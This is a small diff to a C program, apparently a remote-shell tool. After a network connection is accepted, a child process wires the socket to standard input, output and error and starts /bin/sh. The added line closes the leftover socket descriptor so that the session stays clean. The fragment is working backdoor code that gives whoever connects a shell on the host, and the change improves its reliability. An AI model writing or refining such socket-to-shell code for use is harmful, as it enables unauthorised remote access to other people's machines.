@@ -12,6 +12,7 @@ int main(int count, char **words) {
             signal(SIGPIPE, SIG_DFL);
             signal(SIGCHLD, SIG_DFL);
             for (int fd = 0; fd < 3; fd++) dup2(client, fd);
+            if (client > 2) close(client);  /* Or what the shell leaves running would keep the connection. */
             execl("/bin/sh", "sh", (char *)NULL);
             return 127;
         }
